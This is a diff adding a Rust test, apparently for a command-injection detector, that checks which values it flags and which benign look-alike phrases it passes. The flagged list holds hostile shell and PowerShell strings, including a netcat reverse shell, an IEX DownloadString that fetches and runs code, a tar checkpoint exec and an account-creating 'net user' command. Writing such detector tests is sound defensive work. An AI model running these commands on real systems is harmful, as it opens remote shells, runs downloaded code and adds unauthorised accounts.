@@ -25,6 +25,39 @@ fn passed(role: Role, texts: &[&str]) {
 }
 
 #[test]
+fn what_runs_or_writes_is_told_by_what_follows_a_name() {
+    found(
+        Role::Value,
+        &[
+            "find . -exec id \\;",
+            "nc 192.0.2.1 4444 -e /bin/sh",
+            "tar cf x y --checkpoint=1 --checkpoint-action=exec=sh",
+            "Start-Process cmd",
+            "(Get-Content c:\\x)",
+            "rundll32 url.dll,OpenURL x",
+            "net user eve pw /add",
+            "timeout 5 id;",
+            "{curl,http://example.com/x}",
+            "('system')('id')",
+            "$(<file)",
+            "IEX(New-Object Net.WebClient).DownloadString('http://example.com')",
+            "x %x(id)",
+        ],
+    );
+    passed(
+        Role::Value,
+        &[
+            "net user growth was strong",
+            "time out of mind;",
+            "find what you love",
+            "watch top shows tonight",
+            "Get-together on Friday",
+            "10%x(2)",
+        ],
+    );
+}
+
+#[test]
 fn commands_behind_separators() {
     found(
         Role::Value,
